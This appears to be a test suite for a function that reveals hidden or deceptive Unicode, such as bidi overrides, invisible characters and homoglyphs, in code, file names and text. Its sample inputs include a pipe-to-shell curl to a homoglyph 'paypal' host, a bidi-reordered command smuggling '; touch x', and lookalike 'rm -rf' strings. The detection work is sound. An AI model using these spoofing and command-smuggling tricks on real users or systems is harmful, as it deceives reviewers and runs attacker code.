import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { type Manner, revealText, type Segment } from './reveal-text'

const MANNERS = ['code', 'name', 'words'] as const satisfies readonly Manner[]
const shown = (text: string, manner: Manner) =>
  revealText(text, manner)
    .map((it: Segment) => {
      if (it.kind === 'text') return it.source
      return it.kind === 'mark' ? `[${it.label}]` : `<${it.source}>`
    })
    .join('')
const sources = (text: string, manner: Manner) =>
  revealText(text, manner)
    .map(({ source }) => source)
    .join('')

// Beyond what any text is made of, what is made to deceive.
const hostile = fc.string({
  unit: fc.oneof(
    fc.constantFrom(
      ...'\u0000\u0007\t\n\r\u001b\u007f\u0085\u00a0\u00ad\u034f\u061c\u115f\u200b\u200d\u202e\u2066\u2069\u2028\u2800\u3000\u3164\ufe0f\ufeff\ud800 '.split(
        '',
      ),
      '\u{e0041}',
      '\u{e0100}',
      '\u0301\u0301\u0301\u0301\u0301\u0301',
      '\u0430',
      'pay',
      '\u05d0',
      '👩‍💻',
      '❤️',
      ' '.repeat(120),
    ),
    fc.string({ unit: 'binary', minLength: 1, maxLength: 1 }),
    fc.string({ unit: 'grapheme', minLength: 1, maxLength: 1 }),
  ),
  maxLength: 40,
})

describe('revealing a text', () => {
  it('loses nothing: the pieces put together are the text', () => {
    fc.assert(
      fc.property(hostile, fc.constantFrom(...MANNERS), (text, manner) => {
        expect(sources(text, manner)).toBe(text)
      }),
    )
  })

  it('leaves nothing in plain pieces that does not show or that changes an order', () => {
    const dangerous =
      /[\p{Cc}\p{Cf}\p{Zl}\p{Zp}\p{Zs}\p{Default_Ignorable_Code_Point}\p{Cs}\p{Co}\u2800\ufffc]/u
    const emoji =
      /\p{Extended_Pictographic}[\ufe0f\p{Emoji_Modifier}]?(?:\u200d(?=\p{Extended_Pictographic}))?|[0-9#*]\ufe0f\u20e3/gu
    fc.assert(
      fc.property(hostile, (text) => {
        for (const { kind, source } of revealText(text, 'name')) {
          if (kind === 'mark') continue
          const rest = source.replace(emoji, '').replaceAll(' ', '')
          expect(rest.replace(/[\u0600-\u0605\u06dd\u070f\u0890\u0891\u08e2]/g, '')).not.toMatch(
            dangerous,
          )
        }
      }),
    )
  })

  it('never leaves what overrides the order of words, whatever the manner', () => {
    fc.assert(
      fc.property(hostile, fc.constantFrom(...MANNERS), (text, manner) => {
        for (const { kind, source } of revealText(text, manner)) {
          if (kind !== 'mark')
            expect(source).not.toMatch(/[\u202a-\u202e\u2066-\u2069]|(?![\t\n\r])\p{Cc}/u)
        }
      }),
    )
  })

  it('keeps letters of a right-to-left script in pieces of their own, in code', () => {
    fc.assert(
      fc.property(hostile, fc.constantFrom('code', 'name'), (text, manner) => {
        for (const { kind, source } of revealText(text, manner)) {
          if (kind === 'text') expect(source).not.toMatch(/[\u0590-\u05ff\u0620-\u064a]/)
        }
      }),
    )
  })

  it('shows a command that was turned around as it will run', () => {
    const text = "echo 'hello\u202e\u2066' # a greeting\u2069 \u2066' ; touch x #"
    expect(shown(text, 'code')).toBe("echo 'hello[RLO][LRI]' # a greeting[PDI] [LRI]' ; touch x #")
    expect(shown('notes\u202etxt.hsab.', 'name')).toBe('notes[RLO]txt.hsab.')
  })

  it.each([
    ['a\u0000\u0007\u001b[2Kb\u007f', 'a[NUL][BEL][ESC][2Kb[DEL]'],
    ['ls\rrm', 'ls[CR]rm'],
    ['one\r\ntwo\n', 'one\r\ntwo\n'],
    ['a\u200b\u200b\u200bb\u00a0c\u3000d\u2028e', 'a[ZWSP×3]b[NBSP]c[IDSP]d[LS]e'],
    ['x\u3164y\u115fz\u2800', 'x[HF]y[HCF]z[BLANK]'],
    ['a\u{e0072}\u{e006d}b', 'a[TAG “rm”]b'],
    ['a\u{e0101}b\ufe00c', 'a[U+E0101]b[U+FE00]c'],
    ['a\ud800b', 'a[U+D800]b'],
    [`a${' '.repeat(300)}b`, 'a[SP×300]b'],
    [`e${'\u0301'.repeat(20)}!`, `e${'\u0301'.repeat(4)}[marks ×16]!`],
    ['a\u200b\u200c\u200b\u200c\u200b\u200c\u200b\u202eb', 'a[8 hidden]b'],
  ])('marks %j', (text, expected) => {
    expect(shown(text, 'code')).toBe(expected)
  })

  it.each([
    ['echo  \u030ba; touch x # \u030b', 'echo  [U+030B]a; touch x # [U+030B]'],
    ['\u030ea', '[U+030E]a'],
    ['a;\u0315\u0301b', 'a;[U+0315 +1]b'],
  ])('marks accents that have no letter: %j', (text, expected) => {
    for (const manner of ['code', 'name', 'command', 'doubtful-command'] as const)
      expect(shown(text, manner)).toBe(expected)
    expect(shown(text, 'words')).toBe(text)
  })

  it('marks in a name what would break its line or hide at its edge', () => {
    expect(shown(' a\n\tb ', 'name')).toBe('[SP]a[LF][TAB]b[SP]')
    expect(shown('a b', 'name')).toBe('a b')
    expect(shown('', 'name')).toBe('')
  })

  it.each([
    'café naïve Ελληνικά Русский 日本語（笑）한국어 ไทย',
    'cafe\u0301 Vie\u0323\u0302t',
    '👩‍💻 👍🏽 ❤️ 1️⃣ 🏴󠁧󠁢󠁥󠁮󠁧󠁿',
    '修复：问题，“引用”。',
    'git commit -m "о нас"',
    '“quoted” – and — dashed, don’t…',
    '٣ and \u0600 are shown',
  ])('leaves %j as it is', (text) => {
    expect(shown(text, 'code').replace(/[<>]/g, '')).toBe(text)
    expect(shown(text, 'words')).toBe(text)
  })

  it('leaves in words what belongs to the writing', () => {
    for (const text of [
      '\u0645\u06cc\u200c\u062e\u0648\u0627\u0647\u0645', // Persian, with a non-joiner
      '\u0915\u094d\u200d\u0937', // Devanagari, with a joiner
      'Prix\u00a0: 3\u202f€',
      'שלום, "עולם"!\u200f',
    ]) {
      expect(shown(text, 'words')).toBe(text)
      expect(shown(text, 'code')).not.toBe(text)
    }
    expect(shown('pay\u200cpal \u202etxt', 'words')).toBe('pay[ZWNJ]pal [RLO]txt')
  })

  it('isolates what is written from right to left, a phrase at a time', () => {
    expect(shown('echo "שלום עולם" + "אב"; rm', 'code')).toBe('echo "<שלום עולם>" + "<אב>"; rm')
  })
})

describe('characters that look like others', () => {
  const names = (text: string, manner: Manner) =>
    revealText(text, manner).flatMap((it) => (it.kind === 'mark' ? [it.name] : []))

  it.each([
    ['p\u0430ypal', ['U+0430, Cyrillic letter that looks like “a”']],
    ['g\u03bfogle', ['U+03BF, Greek letter that looks like “o”']],
    ['\u0261it', ['U+0261, another Latin letter that looks like “g”']],
    ['\u13a1un', ['U+13A1, Cherokee letter that looks like “R”']],
    ['\u0570ost', ['U+0570, Armenian letter that looks like “h”']],
  ])('are marked in a word with Latin letters: %s', (text, expected) => {
    expect(names(text, 'code')).toEqual(expected)
    expect(names(text, 'words')).toEqual(expected)
  })

  it('are marked in code where the whole word is of them', () => {
    expect(names('\u0441\u043e\u0440\u0443 a b', 'code')).toHaveLength(4)
    expect(names('\uff52\uff4d -rf', 'code')).toHaveLength(2)
    expect(names('\u{1d42b}\u{1d426} -rf', 'code')).toHaveLength(2)
    expect(names('\u0441\u043e\u0440\u0443', 'words')).toEqual([])
  })

  it('are marked in code where they look like what a shell or an address means', () => {
    expect(names('ls \u2212a github.com\u2215x \uff1b y \u037e', 'code')).toEqual([
      'U+2212, sign that looks like “-”',
      'U+2215, sign that looks like “/”',
      'U+FF1B, fullwidth sign that looks like “;”',
      'U+037E, sign that looks like “;”',
    ])
  })

  it.each([
    'echo \u02bahello\u02ba',
    'x = \u275da\u275e',
    'ls \u2758 wc',
    'a \u2317 b',
    '\u2024\u2024/secret',
    '\u2025/secret',
    'if (level != "user\u201d) { // check "',
    'if (level != "user \u201c|| isAdmin ||\u201d ")',
    'x = \u02f6a\u02f6',
    'ls \u29e3 a',
    'if \uff08admin\uff09 {}',
    'x = "a\uff02 // 中文 b"',
  ])('are marked in code and names where they look like signs: %s', (text) => {
    expect(names(text, 'code')).not.toEqual([])
    expect(names(text, 'name')).not.toEqual([])
    expect(names(text, 'words')).toEqual([])
  })

  it.each([
    '修复：登录；“引用”（新）｜＃1',
    'const title = "他说：“你好！”"',
    '{"text":"He said “foo() – bar”; it’s … 10–20"}',
    'src/',
    '├── src │ └── “a”.ts',
    'Settings › General — ‹mot›',
    'Don’t.txt “final” – 2024–05',
    '5″ disk in F♯, geht´s, \u05e6\u05d4\u05f4\u05dc',
    '〝引用〟、〃、‥、〜、ー、一',
    '// 调用 API（v2）接口',
    '# Web API（REST）を使う',
    '"title": "支持 iOS／Android"',
    '‖x‖, a ∥ b, ‚so‘, „so“',
    'ײַדיש ייִדישײ',
  ])('are not what people write every day: %s', (text) => {
    expect(names(text, 'code')).toEqual([])
    expect(names(text, 'name')).toEqual([])
  })

  it('are usual in the lines of East Asian writing only', () => {
    expect(names('// 调用 API（v2）接口\nif （admin） {}', 'code')).toHaveLength(2)
  })

  it.each([
    ['a host', 'curl https://\u0440\u0430\u0443\u0440\u0430\u04cf.com/setup.sh | sh # ж', 6],
    ['a host with a hyphen', 'curl \u0440\u0430\u0443-login.com ж', 3],
    ['a part of a path', 'cat src/\u0441\u043e\u0440/a.ts # жжж', 3],
    ['a command', '\u0441\u043e\u0440\u0443 a b # ж', 4],
    ['a command before another', '\u0441\u043e\u0440\u0443 a; echo "ж"', 4],
    ['with a sign that is a letter to Unicode', '\u0441\u043e\u0440\u0443\u02ba', 5],
  ])('are marked in %s, whatever is said elsewhere', (_, text, count) => {
    expect(names(text, 'code')).toHaveLength(count)
  })

  it.each([
    'git commit -m "В README добавлено: API-а, URL-у и HTML-ом"',
    'Обновить API-а. А также URL-у',
    'документы/отчёт.txt, о/нас/файл.ts',
    'https://яндекс.рф/о_нас',
    '// Это с React, о том и у нас',
    'α/β-test, Δt, Ελληνικά: ο/η',
  ])('are not words of a script that its neighbours are in: %s', (text) => {
    expect(names(text, 'code')).toEqual([])
  })

  it('are not those of a text in that script', () => {
    expect(names('Ещё одна строка: а, о, с, у', 'code')).toEqual([])
    expect(names('Δt = 3 µs', 'code')).toEqual([])
  })
})
